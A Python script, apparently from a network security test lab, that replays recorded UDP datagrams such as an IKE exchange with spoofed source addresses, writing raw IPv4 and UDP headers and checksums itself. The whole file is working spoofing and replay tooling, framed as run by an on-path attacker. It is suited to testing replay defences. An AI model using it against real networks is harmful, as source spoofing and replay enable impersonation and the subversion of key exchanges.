"""Replay recorded UDP datagrams verbatim, with their original (spoofed) source address.

Run inside the attacker's namespace: `python replay_udp.py < packets.json`, where
the JSON is a list of {"src", "dst", "sport", "dport", "payload" (hex)}. A raw
socket with IP_HDRINCL writes the IPv4 header itself, so the datagrams
leave with the recorded source address and ports, as an on-path attacker
replaying an IKE exchange would send them.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(src: str, dst: str, sport: int, dport: int, payload: bytes, ident: int) -> bytes:
    udp_length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_length)
    udp = struct.pack("!HHHH", sport, dport, udp_length, 0) + payload
    udp_checksum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", udp_checksum) + udp[8:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, ident, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def main() -> int:
    packets = json.load(sys.stdin)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for ident, packet in enumerate(packets, start=1):
            frame = datagram(packet["src"], packet["dst"], packet["sport"], packet["dport"],
                             bytes.fromhex(packet["payload"]), ident)
            raw.sendto(frame, (packet["dst"], 0))
            time.sleep(0.2)  # like the original exchange: one message after the other
    print(len(packets))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
